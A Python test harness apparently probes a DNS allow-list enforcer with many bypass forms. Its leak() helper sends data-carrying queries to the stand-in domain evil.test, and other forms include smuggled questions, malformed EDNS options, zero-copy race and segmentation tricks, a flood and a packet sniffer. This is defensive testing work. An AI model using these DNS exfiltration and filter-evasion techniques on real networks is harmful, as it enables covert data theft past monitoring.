"""A command for `dnstrail run --enforce` that asks a resolver in many forms, and prints the results of each as JSON.

Run as `unlisted RESOLVER RESOLVER6 TRIES`, `listed RESOLVER RESOLVER6 TRIES`, the same with `flood`, `cost RESOLVER
TRIES`, or `watch`, which prints what arrives at
port 53: a line for each packet that carries bytes. Of each form, `unlisted` sends what the list does not contain, and
`listed` what it contains; each listed question must be answered at the first try.
"""

from __future__ import annotations

import ctypes
import json
import mmap
import os
import socket
import struct
import sys
import time
from collections import Counter
from collections.abc import Callable

from live.attempts import result

OWN = "known.allowed.test"  # a name of the list
EXTRA = "_http._tcp.known.allowed.test"  # of an entry with the type SRV
_A, _NULL, _TXT, _AAAA, _SRV, _HTTPS = 1, 10, 16, 28, 33, 65
_NO_OPT = b""
_ZEROCOPY, _SEGMENT = 60, 103  # SO_ZEROCOPY, UDP_SEGMENT
_ZEROCOPY_SEND, _FASTOPEN = 0x4000000, 0x20000000  # flags of send
_PATIENCE = 20.0  # seconds
_LIBC = ctypes.CDLL(None, use_errno=True)


def wire(name: str) -> bytes:
    """Return a name as in a message."""
    return b"".join(bytes([len(label)]) + label for label in name.encode().split(b".")) + b"\0"


def message(
    name: bytes, kind: int = _A, *, head: bytes = b"\1\0", counts: tuple[int, ...] = (1, 0, 0, 0), behind: bytes = b""
) -> bytes:
    """Return a question: flags, counts of the sections, name, type, and what comes behind."""
    return os.urandom(2) + head + struct.pack("!4H", *counts) + name + struct.pack("!HH", kind, 1) + behind


def opt(*options: tuple[int, bytes], size: int = 1232, flags: bytes = b"\0\0\0\0") -> bytes:
    """Return an OPT record with options."""
    data = b"".join(struct.pack("!HH", code, len(value)) + value for code, value in options)
    return b"\0\0\x29" + struct.pack("!H", size) + flags + struct.pack("!H", len(data)) + data


def leak() -> str:
    """Return a name that carries data."""
    return f"{os.urandom(16).hex()}.evil.test"


def _extended(record: bytes, name: str = OWN) -> bytes:
    return message(wire(name), counts=(1, 0, 0, 1), behind=record)


_COOKIE = (10, bytes(8))
# Messages that the list does not contain, whatever sends them.
MESSAGES: dict[str, Callable[[], bytes]] = {
    "name": lambda: message(wire(leak())),
    "case": lambda: message(wire(leak().title())),
    "below": lambda: message(wire(f"{os.urandom(8).hex()}.{OWN}.evil.test")),
    "parent": lambda: message(wire("test")),
    "root": lambda: message(b"\0", 2),
    "suffix": lambda: message(wire("notallowed.test")),
    "trailing": lambda: message(wire(OWN), behind=os.urandom(400)),
    "one byte": lambda: message(wire(OWN), behind=os.urandom(1)),
    "two": lambda: message(wire(OWN), counts=(2, 0, 0, 0), behind=wire(leak()) + b"\0\1\0\1"),
    "none": lambda: message(wire(OWN), counts=(0, 0, 0, 0)),
    "answer": lambda: message(wire(OWN), counts=(1, 1, 0, 0), behind=wire(leak()) + bytes(10)),
    "authority": lambda: message(wire(OWN), counts=(1, 0, 1, 0), behind=wire(leak()) + bytes(10)),
    "additional": lambda: message(wire(OWN), counts=(1, 0, 0, 1), behind=wire(leak()) + bytes(10)),
    "pointer": lambda: message(b"\5known\xc0\x1f", behind=wire("allowed.test")),
    "long label": lambda: message(b"\x7f" + os.urandom(127) + wire("allowed.test")),
    "dot": lambda: message(b"\x0dknown.allowed\4test\0"),
    "zero": lambda: message(b"\2x\0" + wire("allowed.test")),
    "NULL": lambda: message(wire(OWN), _NULL),
    "TXT": lambda: message(wire(OWN), _TXT),
    "SRV": lambda: message(wire(OWN), _SRV),
    "TYPE65535": lambda: message(wire(OWN), 65535),
    "class": lambda: message(wire(OWN))[:-1] + b"\3",
    "padding": lambda: _extended(opt((12, os.urandom(1000)))),
    "subnet": lambda: _extended(opt((8, os.urandom(8)))),
    "name id": lambda: _extended(opt((3, b""))),
    "local option": lambda: _extended(opt((65001, os.urandom(30)))),
    "two options": lambda: _extended(opt(_COOKIE, (65001, os.urandom(8)))),
    "long cookie": lambda: _extended(opt((10, os.urandom(41)))),
    "short cookie": lambda: _extended(opt((10, os.urandom(7)))),
    "cookie and more": lambda: _extended(opt(_COOKIE) + os.urandom(20)),
    "version": lambda: _extended(opt(flags=b"\0\1\0\0")),
    "extended code": lambda: _extended(opt(flags=b"\7\0\0\0")),
    "flags": lambda: _extended(opt(flags=b"\0\0\x7f\xff")),
    "named option record": lambda: _extended(b"\1x" + opt()),
    "two option records": lambda: message(wire(OWN), counts=(1, 0, 0, 2), behind=opt() + opt()),
    "update": lambda: message(wire(OWN), head=b"\x28\0"),
    "response": lambda: message(wire(OWN), head=b"\x81\0"),
    "code": lambda: message(wire(OWN), head=b"\1\x0f"),
    "reserved": lambda: message(wire(OWN), head=b"\1\x40"),
    "header": lambda: os.urandom(12),
    "short": lambda: os.urandom(11),
    "nothing else": lambda: os.urandom(1000),
}


def _datagram(version: int) -> socket.socket:
    return socket.socket(socket.AF_INET if version == 4 else socket.AF_INET6, socket.SOCK_DGRAM)


class _Head(ctypes.Structure):
    _fields_ = [
        ("name", ctypes.c_void_p), ("size", ctypes.c_uint), ("parts", ctypes.c_void_p), ("count", ctypes.c_size_t),
        ("control", ctypes.c_void_p), ("control_size", ctypes.c_size_t), ("flags", ctypes.c_int),
    ]  # fmt: skip


class _Message(ctypes.Structure):
    _fields_ = [("head", _Head), ("sent", ctypes.c_uint)]


class _Part(ctypes.Structure):
    _fields_ = [("data", ctypes.c_char_p), ("size", ctypes.c_size_t)]


def send_many(made: socket.socket, *messages: bytes) -> None:
    """Send with sendmmsg."""
    parts = (_Part * len(messages))(*(_Part(each, len(each)) for each in messages))
    vector = (_Message * len(messages))()
    for number, each in enumerate(vector):
        each.head.parts, each.head.count = ctypes.addressof(parts[number]), 1
    sent = _LIBC.sendmmsg(made.fileno(), vector, len(messages), 0)
    if sent < len(messages):
        raise OSError(ctypes.get_errno() if sent < 0 else 1, "sendmmsg")


def _ways(ends: dict[int, tuple[str, int]]) -> dict[str, Callable[[Callable[[], bytes]], None]]:
    """Return the ways to send an unlisted question over UDP."""

    def unconnected(version: int, address: str) -> Callable[[Callable[[], bytes]], None]:
        def send(question: Callable[[], bytes]) -> None:
            with _datagram(version) as made:
                made.sendto(question(), (address, 53))

        return send

    def connected(send: Callable[[socket.socket, bytes], object], version: int = 4) -> Callable[..., None]:
        def run(question: Callable[[], bytes]) -> None:
            with _datagram(version) as made:
                made.connect(ends[version])
                send(made, question())

        return run

    def after_listed(made: socket.socket, question: bytes) -> None:
        made.send(message(wire(OWN)))
        made.recv(512)
        made.send(question)

    def corked(made: socket.socket, question: bytes) -> None:
        made.send(question[:20], socket.MSG_MORE)
        made.send(question[20:])

    def copied_late(made: socket.socket, question: bytes) -> None:
        """Send from memory that the command can change meanwhile: even a listed question is refused."""
        made.setsockopt(socket.SOL_SOCKET, _ZEROCOPY, 1)
        with mmap.mmap(-1, 4096) as memory:
            listed = message(wire(OWN))
            memory[: len(listed)] = listed
            made.send(memoryview(memory)[: len(listed)], _ZEROCOPY_SEND)

    def spliced(made: socket.socket, _question: bytes) -> None:
        reading, writing = os.pipe()
        try:
            os.write(writing, message(wire(OWN)))
            os.splice(reading, made.fileno(), 100)
        finally:
            os.close(reading)
            os.close(writing)

    def segmented(made: socket.socket, _question: bytes) -> None:
        """Cut a listed question, so that its cookie arrives as a question of its own."""
        hidden = message(b"\3abc\0")
        cut = _extended(opt((10, hidden.ljust(40, b"\0"))))
        made.setsockopt(socket.IPPROTO_UDP, _SEGMENT, len(cut) - 40)
        made.send(cut)

    return {
        "IPv4": unconnected(4, ends[4][0]),
        "IPv6": unconnected(6, ends[6][0]),
        "mapped": unconnected(6, f"::ffff:{ends[4][0]}"),
        "connected": connected(lambda made, question: made.send(question)),
        "connected IPv6": connected(lambda made, question: made.send(question), 6),
        "sendmsg": connected(lambda made, question: made.sendmsg([question[:9], question[9:]])),
        "sendmmsg": connected(lambda made, question: send_many(made, question, question)),
        "after a listed one": connected(after_listed),
        "corked": connected(corked),
        "zero copy": connected(copied_late),
        "splice": connected(spliced),
        "segmented": connected(segmented),
        "write": connected(lambda made, question: os.write(made.fileno(), question)),
    }


def framed(question: bytes) -> bytes:
    """Return a message as over TCP."""
    return len(question).to_bytes(2, "big") + question


def _streams() -> dict[str, Callable[[], list[tuple[bytes, int]]]]:
    """Return what is sent over TCP: parts, and the flags of each."""

    def cut(*, flags: int = 0, at: int = 2) -> list[tuple[bytes, int]]:
        data = framed(message(wire(leak())))
        return [(data[:at], flags), (data[at:], 0)]

    return {
        "whole": lambda: [(framed(message(wire(leak()))), 0)],
        "behind a listed one": lambda: [(framed(message(wire(OWN))) + framed(message(wire(leak()))), 0)],
        "length apart": cut,
        "bytes apart": lambda: [(bytes([each]), 0) for each in framed(message(wire(leak())))],
        "listed and cut": lambda: [(framed(message(wire(OWN)))[:30], 0)],
        "too long": lambda: [(b"\xff\xff" + message(wire(OWN)), 0)],
        "too short": lambda: [(b"\0\5" + message(wire(OWN)), 0)],
        "urgent": lambda: [(framed(message(wire(OWN))), socket.MSG_OOB)],
        "no length": lambda: [(message(wire(leak())), 0)],
        "cookie": lambda: [(framed(_extended(opt((10, os.urandom(50))))), 0)],
    }


def _send_stream(version: int, end: tuple[str, int], parts: list[tuple[bytes, int]], *, fast: bool = False) -> None:
    """Send parts over TCP, and reset the connection: what the kernel may send was sent by then."""
    with socket.socket(socket.AF_INET if version == 4 else socket.AF_INET6) as made:
        made.settimeout(_PATIENCE)
        made.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        made.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        if fast:
            made.sendto(parts[0][0], _FASTOPEN, end)
            return
        made.connect(end)
        for data, flags in parts:
            made.send(data, flags)


def unlisted_forms(ends: dict[int, tuple[str, int]]) -> dict[str, Callable[[], None]]:
    """Return each form of asking what the list does not contain."""
    forms: dict[str, Callable[[], None]] = {}
    for name, way in _ways(ends).items():
        forms[f"way {name}"] = lambda way=way: way(MESSAGES["name"])
    direct = _ways(ends)["IPv4"]
    for name, made in MESSAGES.items():
        forms[f"message {name}"] = lambda made=made: direct(made)
    for name, parts in _streams().items():
        for version, end in ends.items():
            forms[f"stream {name} IPv{version}"] = lambda v=version, e=end, parts=parts: _send_stream(v, e, parts())
    forms["stream fast open"] = lambda: _send_stream(4, ends[4], [(framed(message(wire(leak()))), 0)], fast=True)
    return forms


def unlisted(ends: dict[int, tuple[str, int]], tries: int) -> dict[str, Counter[str]]:
    """Ask what the list does not contain, each form some times."""
    return {form: Counter(result(attempt) for _ in range(tries)) for form, attempt in unlisted_forms(ends).items()}


def flood(ends: dict[int, tuple[str, int]], names: int) -> Counter[str]:
    """Ask for some names that the list does not contain."""
    with _datagram(4) as made:
        made.connect(ends[4])
        return Counter(result(lambda: made.send(message(wire(leak())))) for _ in range(names))


def _answered(made: socket.socket, question: bytes) -> None:
    made.settimeout(_PATIENCE)
    made.send(question)
    if made.recv(4096)[:2] != question[:2]:
        raise OSError(5, "another answer")


def _listed_datagram(end: tuple[str, int], version: int, question: bytes) -> None:
    with _datagram(version) as made:
        made.connect(end)
        _answered(made, question)


def _listed_stream(end: tuple[str, int], version: int, *questions: bytes) -> None:
    with socket.socket(socket.AF_INET if version == 4 else socket.AF_INET6) as made:
        made.settimeout(_PATIENCE)
        made.connect(end)
        made.sendall(b"".join(map(framed, questions)))
        for _ in questions:
            size = int.from_bytes(made.recv(2, socket.MSG_WAITALL), "big")
            made.recv(size, socket.MSG_WAITALL)


def _listed_many(end: tuple[str, int]) -> None:
    with _datagram(4) as made:
        made.settimeout(_PATIENCE)
        made.connect(end)
        send_many(made, message(wire(OWN)), message(wire(OWN), _AAAA))
        made.recv(512)
        made.recv(512)


def listed(ends: dict[int, tuple[str, int]], tries: int) -> dict[str, Counter[str]]:
    """Ask what the list contains, and wait for each answer."""
    questions = {
        "A": lambda: message(wire(OWN)),
        "case": lambda: message(wire(OWN.title())),
        "AAAA": lambda: message(wire(OWN), _AAAA),
        "HTTPS": lambda: message(wire(OWN), _HTTPS),
        "SRV of an entry": lambda: message(wire(EXTRA), _SRV),
        "EDNS": lambda: _extended(opt()),
        "DO": lambda: _extended(opt(flags=b"\0\0\x80\0")),
        "cookie": lambda: _extended(opt((10, os.urandom(8)))),
        "whole cookie": lambda: _extended(opt((10, os.urandom(40)))),
        "AD and CD": lambda: message(wire(OWN), head=b"\1\x30"),
        "long name": lambda: message(wire(f"{'.'.join(['x' * 59] * 3)}.{'y' * 50}.allowed.test")),
    }
    forms: dict[str, Callable[[], None]] = {}
    for version, end in ends.items():
        for name, made in questions.items():
            forms[f"{name} UDP{version}"] = lambda e=end, v=version, made=made: _listed_datagram(e, v, made())
        forms[f"A TCP{version}"] = lambda e=end, v=version: _listed_stream(e, v, message(wire(OWN)))
        forms[f"two TCP{version}"] = lambda e=end, v=version: _listed_stream(
            e, v, message(wire(OWN)), message(wire(OWN), _AAAA)
        )
    forms["sendmmsg"] = lambda: _listed_many(ends[4])
    return {form: Counter(result(attempt) for _ in range(tries)) for form, attempt in forms.items()}


def cost(end: tuple[str, int], tries: int) -> list[float]:
    """Return the processor time of a question that nobody answers, in microseconds, and again."""
    found = []
    with _datagram(4) as made:
        made.connect(end)
        for _ in range(7):
            question, began = message(wire(OWN)), time.process_time()
            for _ in range(tries):
                made.send(question)
            found.append((time.process_time() - began) / tries * 1e6)
    return sorted(found)


def watch() -> None:
    """Print each packet to port 53 that carries bytes, as its protocol and these bytes."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(3)) as made:
        made.setsockopt(socket.SOL_SOCKET, 33, 1 << 25)  # SO_RCVBUFFORCE
        print("ready", flush=True)
        while True:
            packet, where = made.recvfrom(65536)
            if where[2] == socket.PACKET_OUTGOING or where[0] == "lo":
                continue
            at, protocol = ((packet[0] & 15) * 4, packet[9]) if packet[0] >> 4 == 4 else (40, packet[6])
            if protocol not in (6, 17) or packet[at + 2 : at + 4] != b"\0\x35":
                continue
            data = packet[at + (8 if protocol == 17 else (packet[at + 12] >> 4) * 4) :]
            size = int.from_bytes(packet[2:4] if at < 40 or packet[0] >> 4 == 4 else packet[4:6], "big")
            whole = size if packet[0] >> 4 == 4 else size + 40
            if data := data[: whole - (len(packet) - len(data))]:
                print(protocol, data.hex(), flush=True)


if __name__ == "__main__":
    form, *arguments = sys.argv[1:]
    if form == "watch":
        watch()
    elif form == "cost":
        print(json.dumps(cost((arguments[0], 53), int(arguments[1]))))
    else:
        run = {"unlisted": unlisted, "listed": listed, "flood": flood}[form]
        print(json.dumps(run({4: (arguments[0], 53), 6: (arguments[1], 53)}, int(arguments[2]))))
